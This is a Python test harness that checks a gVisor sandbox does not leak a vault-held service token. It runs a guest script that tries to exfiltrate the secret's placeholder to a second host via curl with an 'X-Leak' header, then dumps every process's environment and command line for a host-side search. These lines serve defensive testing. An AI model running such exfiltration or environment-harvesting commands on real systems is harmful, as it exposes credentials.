"""Run under `unshare -n` by test_sandbox_services.py: a real HTTPS service upstream on this
namespace's loopback, a real vault holding its token, a real gVisor sandbox granted the
service. The guest calls the service (curl, trusting only the image's CA store), tries to send
the secret's placeholder elsewhere, and then everything the guest could have seen — responses,
every process's environment and command line, every file it changed — is copied out and
searched on the host for the secret's value. Prints JSON.
"""

from __future__ import annotations

import asyncio
import base64
import http.server
import json
import secrets
import ssl
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
sys.path.insert(0, str(Path(__file__).parents[1] / "egress"))
from egress_probe import make_ca_and_cert
from egress_upstream import reflect_parts, reflected_forms

from aamp.audit import AuditLog
from aamp.config import Settings
from aamp.egress.ca import InstallationCA
from aamp.egress.intercept import upstream_tls_context
from aamp.egress.ledger import EgressSink
from aamp.egress.proxy import EgressContext
from aamp.egress.resolver import StaticResolver
from aamp.egress.rules import EgressRules
from aamp.egress.services import Bearer, Service, ServiceSet, VaultSecretReader
from aamp.sandbox.gvisor import GVisorDriver
from aamp.sandbox.images import ImageStore
from aamp.sandbox.manager import CreateRequest, LogEgressSink, SandboxManager
from aamp.store import Store
from aamp.vault import Vault

# a.test is the service's real host name (it has an SAN in the test certificate); b.test is
# an ordinary allowed host the guest may try to exfiltrate to.
HOSTS = {"a.test": "127.0.0.10", "b.test": "127.0.0.11"}
SEEN: list[dict[str, str]] = []

GUEST = r"""
set -u
curl -sS https://a.test/whoami > /workspace/service.txt; echo "curl exit $?"
curl -sS -H 'Authorization: Bearer {{secret:crm_token}}' https://a.test/whoami \
  > /workspace/service-guest-header.txt
curl -sS --cacert /workspace/test-ca.pem -H 'X-Leak: {{secret:crm_token}}' \
  https://b.test/collect > /workspace/exfil.txt
for coding in br gzip; do
  curl -sS -D /workspace/reflect-$coding.head https://a.test/reflect/$coding \
    > /workspace/reflect-$coding.txt
done
"""
REFLECTED = ["reflect-br.head", "reflect-br.txt", "reflect-gzip.head", "reflect-gzip.txt"]


class Echo(http.server.BaseHTTPRequestHandler):
    """Answers with the credential it received, so a scrubbing failure would show it;
    `/reflect/CODING` with every form of it (egress_upstream.reflected_forms)."""

    def do_GET(self) -> None:
        seen = {k.lower(): v for k, v in self.headers.items()}
        seen["host-served"] = self.headers.get("Host", "")
        SEEN.append({**seen, "path": self.path})
        if self.path.startswith("/reflect/"):
            lines, data = reflect_parts(reflected_forms(seen), self.path.split("/")[2])
            self.send_response(200)
            for line in lines:
                self.send_header(*line.split(": ", 1))
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
            return
        body = json.dumps({"you_sent": seen.get("authorization"), "leak": seen.get("x-leak")})
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("X-Echo-Authorization", seen.get("authorization", ""))
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: object) -> None:
        pass


def serve_echo(address: str, port: int, tls: ssl.SSLContext | None = None) -> None:
    """An `Echo` server on (address, port), over TLS if `tls` is given, in a thread."""
    server = http.server.ThreadingHTTPServer((address, port), Echo)
    if tls is not None:
        server.socket = tls.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()


def start_upstreams(cert: Path, key: Path) -> None:
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(cert, key)
    for address in HOSTS.values():
        serve_echo(address, 443, tls)


def service_manager(
    settings: Settings,
    vault: Vault,
    ca_dir: Path,
    test_ca: Path,
    hosts: dict[str, str],
    sink: EgressSink | None = None,
) -> SandboxManager:
    """A gVisor sandbox manager whose proxies resolve `hosts` statically, read service
    credentials from `vault`, intercept with the CA in `ca_dir` and trust `test_ca` upstream."""
    return SandboxManager(
        settings,
        ImageStore(settings),
        {"gvisor": GVisorDriver(settings.runtime_dir)},
        "gvisor",
        egress=EgressContext(
            StaticResolver({h: [a] for h, a in hosts.items()}),
            sink or LogEgressSink(),
            secrets=VaultSecretReader(vault),
            ca=InstallationCA.load_or_create(ca_dir),
            upstream_tls=upstream_tls_context(test_ca),
        ),
    )


async def probe(settings: Settings, ca_dir: Path, test_ca: Path, value: str) -> dict[str, object]:
    store = Store.open(settings)
    out: dict[str, object] = {}
    async with AuditLog.open(settings, store) as audit:
        vault = Vault.open(settings, store, audit)
        await vault.put("crm_token", value, actor="user:admin")
        manager = service_manager(settings, vault, ca_dir, test_ca, HOSTS)
        await manager.start()
        try:
            crm = Service("crm", "https://a.test", Bearer("crm_token"))
            request = CreateRequest(
                image="base",
                egress=EgressRules.from_lists("block", allow=list(HOSTS)),
                services=ServiceSet([crm]),
            )
            sb = await manager.create(request)
            async with manager.use(sb.id) as channel:
                ca = test_ca.read_bytes()
                await channel.put("test-ca.pem", ca, len(ca))
                await channel.run(["touch", "/tmp/.probe-start"])
                _, stdout, stderr = await channel.run(["sh", "-c", GUEST], timeout=120)
                out["guest_output"] = (stdout + stderr).decode(errors="replace")
                for name in ("service.txt", "service-guest-header.txt", "exfil.txt", *REFLECTED):
                    stream = await channel.get(name)
                    out[name] = b"".join([c async for c in stream]).decode(errors="replace")
                # Everything the guest could hold, brought out to be searched on the host.
                _, procs_dump, _ = await channel.run(
                    ["sh", "-c", "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; ps -ef 2>&1"]
                )
                _, changed, _ = await channel.run(
                    ["sh", "-c", "find / -xdev -newer /tmp/.probe-start -type f "
                     "-not -path '/proc/*' -not -path '/sys/*' -print0 | "
                     "xargs -0 -r tar -c -f - 2>/dev/null | base64 -w0"],
                    timeout=120,
                )  # fmt: skip
                out["guest_dump"] = procs_dump.decode(errors="replace") + base64.b64decode(
                    changed
                ).decode("latin-1")
        finally:
            await manager.shutdown()
    store.close()
    return out


def main() -> None:
    env = json.loads(sys.argv[1])
    ca_dir = Path(sys.argv[2])
    settings = Settings.from_env(env)
    value = "sk-" + secrets.token_urlsafe(24)
    with tempfile.TemporaryDirectory() as tmp:
        test_ca, cert, key = make_ca_and_cert(Path(tmp))
        start_upstreams(cert, key)
        report = asyncio.run(probe(settings, ca_dir, test_ca, value))
    report["upstream_saw"] = SEEN
    report["secret_value"] = value  # only the host-side test ever compares with it
    print(json.dumps(report))


if __name__ == "__main__":
    main()
